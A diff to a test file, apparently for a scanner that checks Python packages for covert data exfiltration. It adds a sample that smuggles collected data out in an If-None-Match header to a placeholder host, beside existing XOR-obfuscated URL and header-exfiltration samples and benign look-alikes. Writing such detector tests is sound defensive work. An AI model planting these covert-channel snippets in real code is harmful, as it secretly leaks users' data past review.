@@ -16,8 +16,10 @@ RUN = {
 HIDDEN = {
     "address-deciphered": "import base64, requests\n\nclass Witness:\n    def __init__(self, cfg, label=b'tides'):\n        raw = base64.b64decode(cfg['witness'])\n        self.url = bytes(b ^ label[i % len(label)] for i, b in enumerate(raw)).decode()\n\n    def confirm(self, parts):\n        return requests.post(self.url + '/x', files=parts, timeout=20).ok\n",
     "sent-enciphered": "import base64, http.client, json\n\ndef note(told, key):\n    body = bytes(b ^ key[i % 16] for i, b in enumerate(json.dumps(told).encode()))\n    try:\n        line = http.client.HTTPSConnection('n.example.invalid', timeout=2)\n        line.request('GET', '/h', headers={'If-None-Match': base64.b64encode(body).decode()})\n        line.getresponse()\n    except OSError:\n        pass\n",
+    "header-carries-data": "import base64, json, requests\n\nclass Rules:\n    def _tag(self):\n        return base64.urlsafe_b64encode(json.dumps(self.seen).encode()).decode()\n\n    def fresh(self):\n        return requests.get('https://n.example.invalid/r', headers={'If-None-Match': self._tag()}).json()\n",
 }
 HONEST = {
+    "headers as they are": "import base64, hashlib, uuid, requests\n\ndef ask(url, user, password, seen):\n    basic = base64.b64encode(f'{user}:{password}'.encode()).decode()\n    tag = hashlib.sha256(seen).hexdigest()\n    return requests.get(url, headers={'Authorization': 'Basic ' + basic, 'If-None-Match': tag, 'User-Agent': 'tides/1', 'X-Request-ID': uuid.uuid4().hex}).json()\n",
     "a mask of a protocol": "import socket\n\ndef send(host, data, mask):\n    line = socket.create_connection((host, 80))\n    line.sendall(bytes(b ^ mask[i % 4] for i, b in enumerate(data)))\n    return line.recv(9)\n",
     "a sign of a question": "import requests\n\ndef ask(words, key):\n    sign = ''.join(chr(ord(c) ^ key) for c in words)\n    return requests.get(f'https://api.example.invalid/v1?q={words}&s={sign}').json()\n",
     "a game's letters": "def turn(text, step):\n    return ''.join(chr((ord(c) - 97 + step) % 26 + 97) for c in text)\n\ndef play(code):\n    exec(code)\n    return turn('tides', 3)\n",
@@ -38,7 +40,7 @@ def test_what_is_hidden_by_hand_on_the_wire_is_told(kind: str) -> None:
 @pytest.mark.parametrize("source", HONEST.values(), ids=HONEST)
 def test_ciphers_of_protocols_and_games_tell_nothing(source: str) -> None:
     told = fired(WHEEL, wheel({"pkg/__init__.py": b"", "pkg/health.py": source.encode()}))
-    assert not told & {"deciphered-is-run", "address-deciphered", "sent-enciphered"}
+    assert not told & {"deciphered-is-run", "address-deciphered", "sent-enciphered", "header-carries-data"}
 
 
 def test_what_one_module_deciphers_and_another_runs_is_told() -> None:
